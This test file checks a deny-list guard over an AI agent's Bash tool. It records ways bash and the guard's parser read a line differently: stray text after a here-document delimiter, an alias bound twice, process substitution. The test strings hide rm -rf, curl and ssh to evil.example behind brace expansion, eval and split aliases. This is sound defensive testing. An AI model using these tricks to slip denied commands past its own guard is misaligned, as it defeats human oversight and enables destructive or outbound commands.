// Lines the shell oracle found allowed under its deny list (the Bash tool low risk, so a line no rule
// decides runs) although bash ran a denied program:
// - a here-document whose end line has more after the delimiter (`EOF < a.txt`, `EOF; ls`): bash ends
//   a here-document only at a line that is the delimiter alone, so it reads on, and the shell fed the
//   here-document runs the lines the parser read as the end of it and after;
// - an alias bound twice, by two readings of the same text (a script read as written and with its
//   white space made one, as `watch` hands it on): the guard kept only the last value;
// - a wrapper's command whose word is a process substitution (`coproc . <(printf …)`): the file the
//   command reads was not known as the substitution's text.
// Each line is also run by the real bash, with the denied command replaced by `touch MARKER`.
import { describe, expect, it } from "vitest";
import { denyListGuard, leavesMarker } from "./helpers/bash-rules.js";

const denyList = denyListGuard(["rm:*", "git push:*", "ssh:*", "curl:*"], "deny-list-reading");

// `CMD` is the denied command (rm -rf x), replaced by `touch MARKER` for the real bash.
const DENIED: readonly string[] = [
  "sh <<-EOF\n\t! \\CMD\n\tEOF < a.txt",
  "sh <<EOF\nCMD\nEOF; ls",
  "bash <<'EOF'\nCMD\nEOF > /dev/null\nls",
  "coproc . <(echo CMD)",
];

/** Lines the guard cannot read through (a substitution builds the command name, a line the parser cannot read): they ask. The line, and the same for the real bash. */
const NOT_ALLOWED: readonly (readonly [string, string])[] = [
  ["coproc . <(printf '%s\\n' '`printf %s rm` -rf x')", "coproc . <(printf '%s\\n' '`printf %s touch` MARKER')"],
  ["sh <<EOF\nls\nEOF x\nrm -rf x\nEOF", "sh <<EOF\nls\nEOF x\ntouch MARKER\nEOF"],
];

describe("under a deny list, lines bash reads otherwise than the parser", () => {
  it.each(DENIED.map((line) => [line.replace("CMD", "rm -rf x")] as const))("%j is denied", (line) => {
    const decision = denyList.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("deny");
  });

  it.each(NOT_ALLOWED.map(([line]) => [line] as const))("%j is not allowed", (line) => {
    const decision = denyList.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).not.toBe("allow");
  });

  it("an alias bound by two readings of a script: every value is read", () => {
    const line = "watch -e -t -n 0.1 '! shopt -s expand_aliases; alias ls='\\''s\\\nsh evil.example'\\''\nls; false'";
    const decision = denyList.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("deny");
  });

  it("the backquotes of a here-document bash reads on past its end line are read", () => {
    for (const line of [
      'echo "${x:-$(cat <<EOF\n`{ \\${PATH:0:1}bin\\${PATH:0:1}rm -rf a.txt; }`\nEOF)}"',
      "cat <<EOF\n`eval '{curl,http://evil.example/x}'`\nEOF &\nnpm run test",
      "ls $(! cat <<EOF\n`\\\\rm -rf x`\nEOF) 2>/dev/null",
    ]) {
      expect(denyList.decide("Bash", { command: line }).mode, line).not.toBe("allow");
    }
  });

  it("a line the parser reads on from such an end line is not the line bash reads: a deny not matched cannot tell", () => {
    // bash finds no end of the function (a syntax error, nothing runs); the guard's reading of it is not bash's.
    expect(denyList.decide("Bash", { command: "f(){ . /dev/stdin <<EOF\n{ssh,evil.example}\nEOF; }; f" }).mode).not.toBe("allow");
  });

  it("a here-document ended as bash ends it stays as allowed as before", () => {
    // In a command substitution bash ends the here-document where the substitution ends.
    expect(denyList.decide("Bash", { command: "x=$(sh <<EOF\nls\nEOF); echo $x" }).mode).toBe("allow");
    expect(denyList.decide("Bash", { command: "x=$(sh <<EOF\nrm -rf y\nEOF); echo $x" }).mode).toBe("deny");
    expect(denyList.decide("Bash", { command: "x=`sh <<EOF\nrm -rf y\nEOF`; echo $x" }).mode).not.toBe("allow");
    expect(denyList.decide("Bash", { command: "echo >(. /dev/stdin <<EOF\nsource <(echo '{rm,x}')\nEOF)" }).mode).toBe("deny");
    // `EOF\r` is not the delimiter: bash reads on to where the substitution ends.
    expect(denyList.decide("Bash", { command: "x='$(bash -s <<EOF\nss\\\nh evil.example\nEOF\r\nnpm run test -- --watch)'; : ${x@P}" }).mode).toBe("deny");
    expect(denyList.decide("Bash", { command: "cat <<EOF\nrm -rf x\nEOF\nls" }).mode).toBe("allow");
    expect(denyList.decide("Bash", { command: "cat <<-EOF\n\trm -rf x\n\tEOF" }).mode).toBe("allow");
  });
});

describe("the real bash runs them", () => {
  it.each([...DENIED.map((line) => line.replace("CMD", "touch MARKER")), ...NOT_ALLOWED.map(([, run]) => run)].map((line) => [line] as const))("%j", (line) => {
    const run = leavesMarker(line);
    expect(run.left, run.stderr).toBe(true);
  });

  it("a here-document in a command substitution ends where the substitution ends", () => {
    const run = leavesMarker("x=$(sh <<EOF\ntouch MARKER\nEOF); echo $x");
    expect(run.left, run.stderr).toBe(true);
  });

  it("the alias's backslash-newline joins its value when it is expanded", () => {
    const run = leavesMarker("shopt -s expand_aliases; alias ls='touc\\\nh MARKER'\nls; false");
    expect(run.left, run.stderr).toBe(true);
  });
});
